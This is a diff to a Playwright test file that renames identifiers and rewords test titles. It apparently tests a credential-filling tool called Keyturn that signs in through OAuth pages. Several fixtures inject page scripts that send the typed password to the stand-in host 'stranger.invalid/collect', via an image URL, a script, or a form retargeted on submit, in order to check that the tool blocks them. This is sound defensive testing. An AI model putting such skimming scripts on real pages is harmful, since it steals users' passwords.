@@ -1,6 +1,6 @@
 /**
  * Walks through a sample of the corpus in Chromium, from the authorization request to the callback, and checks what
- * each page was sent.
+ * was sent to each page.
  */
 import { expect } from '@playwright/test';
 import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
@@ -19,18 +19,18 @@ const PASSWORD = 'Correct-Horse-7-Battery';
 const PASSCODE = '482915';
 const CALLBACK = 'http://127.0.0.1:9/callback';
 
-/** The requests, such as `POST /login`, with the fields that identify a user. */
-interface Came {
+/** A request, such as `POST /login`, and its decoded body. */
+interface ReceivedRequest {
   to: string;
   body: string;
 }
 
 interface Tenant {
   walk: (pages: { signIn: CorpusPage | string; then?: CorpusPage; reply?: Reply }) => Promise<SignedIn>;
-  came: Came[];
+  received: ReceivedRequest[];
 }
 
-/** Answers in place of the tenant. Returns whether it did. */
+/** May answer in place of the tenant. Returns whether it did. */
 type Reply = (request: IncomingMessage, response: ServerResponse, body: string, count: number) => boolean;
 
 const PLAIN = `<!doctype html><title>Sign in</title><form method="post" action="/access/login">
@@ -40,20 +40,21 @@ const PLAIN = `<!doctype html><title>Sign in</title><form method="post" action="
 /** A small tenant: it has one user, shows one page of the corpus, and redirects to the callback. */
 const test = base.extend<{ tenant: Tenant }>({
   tenant: async ({ chromium }, use) => {
-    const came: Came[] = [];
+    const received: ReceivedRequest[] = [];
     let first = '';
     let next: CorpusPage | undefined;
     let reply: Reply | undefined;
     let isSignedIn = false;
-    let owesNext = false;
+    let nextIsPending = false;
     const server = createServer((request, response) => {
       let body = '';
       request.on('data', (chunk: Buffer) => (body += chunk.toString()));
       request.on('end', () => {
         const path = request.url?.split('?')[0] ?? '';
         const to = `${request.method ?? ''} ${path}`;
-        if (request.method !== 'GET') came.push({ to, body: decodeURIComponent(body.replaceAll('+', ' ')) });
-        const count = came.filter((one) => one.to === to).length;
+        if (request.method !== 'GET')
+          received.push({ to, body: decodeURIComponent(body.replaceAll('+', ' ')) });
+        const count = received.filter((one) => one.to === to).length;
         if (reply?.(request, response, body, count) === true) return;
         const show = (html: string) => {
           response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
@@ -64,25 +65,25 @@ const test = base.extend<{ tenant: Tenant }>({
           const text = decodeURIComponent(body);
           if (text.includes(PASSWORD)) {
             isSignedIn = true;
-            owesNext = next !== undefined;
-          } else if (isSignedIn) owesNext = false;
+            nextIsPending = next !== undefined;
+          } else if (isSignedIn) nextIsPending = false;
           lead('/oauth/authorizations/new');
         } else if (path !== '/oauth/authorizations/new') {
-          if (isSignedIn && owesNext && path === '/next') show(next?.html ?? '');
+          if (isSignedIn && nextIsPending && path === '/next') show(next?.html ?? '');
           else if (isSignedIn && !/favicon/.test(path)) {
             // Every link on an interstitial continues to the callback.
-            owesNext = false;
+            nextIsPending = false;
             lead('/oauth/authorizations/new');
           } else show(first);
         } else if (!isSignedIn) lead('/auth/v2/login/signin');
-        else if (owesNext) lead('/next');
+        else if (nextIsPending) lead('/next');
         else lead(`${CALLBACK}?code=the-code&state=s`);
       });
     });
     await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
     const origin = `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`;
     await use({
-      came,
+      received,
       walk: (pages) => {
         first = typeof pages.signIn === 'string' ? pages.signIn : pages.signIn.html;
         next = pages.then;
@@ -112,79 +113,81 @@ const test = base.extend<{ tenant: Tenant }>({
   },
 });
 
-/** These pages of the corpus work without a special server. */
+/** Finds pages of the corpus that work without a special server. */
 function named(...names: string[]): CorpusPage[] {
   return names.map((name) => {
     const found = CORPUS.find((page) => page.name === name);
     if (found === undefined)
-      throw new Error(`The corpus has no page “${name}” any more: choose another one.`);
+      throw new Error(`The corpus no longer has a page “${name}”. Choose another one.`);
     return found;
   });
 }
 
-const FILLED = named(
+const SIGN_IN_FORMS = named(
   'plain-form',
   'button-aria-disabled-before-typing',
   'captcha-frame-in-the-form',
   'register-above-with-a-name',
 );
-const OTHER = named(
+const OTHER_FORMS = named(
   'register-alone-with-terms',
   'action-on-another-host',
   'register-alone-with-two-fields',
   'two-forms-with-unknown-words',
 );
-const AFTERWARDS = named(
-  'authenticator-with-a-way-past',
+const AFTER_THE_PASSWORD = named(
+  'authenticator-that-can-be-skipped',
   'code-in-a-modal-dialog',
   'code-called-twofactor',
-  'code-with-a-button-that-waits-for-it',
+  'code-with-a-button-enabled-by-it',
 );
 
-/** Where a page of the corpus expects its password: the URL of the right form, as far as its HTML names one. */
-function expectedTarget({ html, right }: CorpusPage): RegExp {
-  const id = 'type' in right ? (right.type.password ?? '') : '';
+/** Matches the request with the password that a page of the corpus should send: to its form's action, if there is one. */
+function expectedTarget({ html, expected }: CorpusPage): RegExp {
+  const id = 'type' in expected ? (expected.type.password ?? '') : '';
   const before = html.split(new RegExp(`\\sid=["']?${id}["'\\s>]`, 'u'))[0] ?? '';
   const form = before.match(/<form[^>]*>/gu)?.at(-1) ?? '';
   const action = /action="([^"?]*)/u.exec(form)?.[1] ?? '';
   return new RegExp(`^POST ${action === '' ? '/' : action}`, 'u');
 }
 
-test.describe('a page that signs in is walked through, and the password goes to its form alone', () => {
-  for (const one of FILLED) {
+test.describe('a sign-in page is walked through, and the password goes only to its form', () => {
+  for (const one of SIGN_IN_FORMS) {
     test(one.name, async ({ tenant }) => {
       expect(await tenant.walk({ signIn: one })).toMatchObject({ outcome: 'answered', passwordTyped: true });
-      const withPassword = tenant.came.filter(({ body }) => body.includes(PASSWORD));
+      const withPassword = tenant.received.filter(({ body }) => body.includes(PASSWORD));
       expect(withPassword.map(({ to }) => to)).toEqual([expect.stringMatching(expectedTarget(one))]);
     });
   }
 });
 
-test.describe('a page whose form is about something else gets nothing that was typed', () => {
-  for (const one of OTHER) {
+test.describe('a page with a form for another purpose gets no input', () => {
+  for (const one of OTHER_FORMS) {
     test(one.name, async ({ tenant }) => {
-      const came: unknown = await tenant.walk({ signIn: one }).catch((error: unknown) => error);
-      expect(came).toBeInstanceOf(Blocked);
-      expect(String(came)).not.toContain('KEYTURN_WRITE_HOSTS');
-      expect(tenant.came.filter(({ body }) => body.includes(PASSWORD) || body.includes(EMAIL))).toEqual([]);
+      const result: unknown = await tenant.walk({ signIn: one }).catch((error: unknown) => error);
+      expect(result).toBeInstanceOf(Blocked);
+      expect(String(result)).not.toContain('KEYTURN_WRITE_HOSTS');
+      expect(tenant.received.filter(({ body }) => body.includes(PASSWORD) || body.includes(EMAIL))).toEqual(
+        [],
+      );
     });
   }
 });
 
-test.describe('what comes after the password is answered or passed by', () => {
-  for (const one of AFTERWARDS) {
+test.describe('a page after the password is answered or skipped', () => {
+  for (const one of AFTER_THE_PASSWORD) {
     test(one.name, async ({ tenant }) => {
       expect(await tenant.walk({ signIn: PLAIN, then: one })).toMatchObject({ outcome: 'answered' });
-      expect(tenant.came.filter(({ body }) => body.includes(PASSWORD))).toHaveLength(1);
+      expect(tenant.received.filter(({ body }) => body.includes(PASSWORD))).toHaveLength(1);
     });
   }
 });
 
-test.describe('a password that is about to go astray is stopped', () => {
+test.describe('a password that is about to go to the wrong place is stopped', () => {
   const STRANGER = 'http://stranger.invalid/collect';
   for (const [title, page] of [
     [
-      'by a script that sends it to somebody else',
+      'in a script’s request to another host',
       PLAIN.replace(
         '<button',
         `<script>document.currentScript.form; document.forms[0].onsubmit = (event) => { event.preventDefault();
@@ -192,16 +195,16 @@ test.describe('a password that is about to go astray is stopped', () => {
       ),
     ],
     [
-      'by a picture',
+      'in the URL of an image',
       PLAIN.replace(
         '<button',
         `<script>document.forms[0].onsubmit = (event) => { event.preventDefault();
         new Image().src = '${STRANGER}?' + encodeURIComponent(document.forms[0].password.value); }</script><button`,
       ),
     ],
-    ['by a form that puts it into the address', PLAIN.replace('method="post"', 'method="get"')],
+    ['in the URL of a form with the method GET', PLAIN.replace('method="post"', 'method="get"')],
     [
-      'by a form that is turned to somebody else when it is sent',
+      'in a form that changes its target to another host when it is sent',
       PLAIN.replace(
         '<button',
         `<script>document.forms[0].onsubmit = () => { document.forms[0].action = '${STRANGER}'; }</script><button`,
@@ -209,23 +212,23 @@ test.describe('a password that is about to go astray is stopped', () => {
     ],
   ] as const) {
     test(title, async ({ tenant }) => {
-      const came: unknown = await tenant.walk({ signIn: page }).catch((error: unknown) => error);
-      expect(came).toBeInstanceOf(Blocked);
-      expect((came as Error).message).toMatch(
+      const result: unknown = await tenant.walk({ signIn: page }).catch((error: unknown) => error);
+      expect(result).toBeInstanceOf(Blocked);
+      expect((result as Error).message).toMatch(
         /tried to send the password to .*; Keyturn stopped it, and nothing was sent/,
       );
-      expect((came as Error).message).not.toContain('Correct-Horse');
-      expect((came as Error).message).not.toContain('KEYTURN_WRITE_HOSTS');
-      expect(tenant.came).toEqual([]);
+      expect((result as Error).message).not.toContain('Correct-Horse');
+      expect((result as Error).message).not.toContain('KEYTURN_WRITE_HOSTS');
+      expect(tenant.received).toEqual([]);
     });
   }
 });
 
 test.describe('a second window gets nothing', () => {
   for (const [title, page] of [
-    ['for the form itself', PLAIN.replace('<form', '<form target="_blank"')],
+    ['from the form itself', PLAIN.replace('<form', '<form target="_blank"')],
     [
-      'for a form of somebody else',
+      'from a form that changes its target to another host',
       PLAIN.replace(
         '<button',
         `<script>document.forms[0].onsubmit = () => {
@@ -234,29 +237,29 @@ test.describe('a second window gets nothing', () => {
     ],
   ] as const) {
     test(title, async ({ tenant }) => {
-      const came: unknown = await tenant.walk({ signIn: page }).catch((error: unknown) => error);
-      expect(came).toBeInstanceOf(Blocked);
-      expect((came as Error).message).toMatch(
+      const result: unknown = await tenant.walk({ signIn: page }).catch((error: unknown) => error);
+      expect(result).toBeInstanceOf(Blocked);
+      expect((result as Error).message).toMatch(
         /Sending the password opened another window|tried to send the password to/,
       );
-      expect(tenant.came).toEqual([]);
+      expect(tenant.received).toEqual([]);
     });
   }
 });
 
-test('a form that is turned to another path while it is filled in is not sent', async ({ tenant }) => {
+test('a form that changes its target while it is filled in is not sent', async ({ tenant }) => {
   const turned = PLAIN.replace(
     '<button',
     `<script>document.forms[0].oninput = () => { document.forms[0].action = '/elsewhere'; }</script><button`,
   );
-  const came: unknown = await tenant.walk({ signIn: turned }).catch((error: unknown) => error);
-  expect(String(came)).toMatch(
+  const result: unknown = await tenant.walk({ signIn: turned }).catch((error: unknown) => error);
+  expect(String(result)).toMatch(
     /The form was not sent, because its target changed from \S+ to \/elsewhere while it was filled in/,
   );
-  expect(tenant.came).toEqual([]);
+  expect(tenant.received).toEqual([]);
 });
 
-test('after the password was answered 429 with a list of waits, it is typed once more', async ({
+test('a password that was answered 429 with two values in Retry-After is typed once more', async ({
   tenant,
 }) => {
   const busy: Reply = (request, response, _, count) => {
@@ -269,5 +272,5 @@ test('after the password was answered 429 with a list of waits, it is typed once
   const walked = await tenant.walk({ signIn: PLAIN, reply: busy });
   expect(walked).toMatchObject({ outcome: 'answered' });
   expect(walked.steps).toContainEqual({ did: 'waited', ms: 2000 });
-  expect(tenant.came).toHaveLength(2);
+  expect(tenant.received).toHaveLength(2);
 });
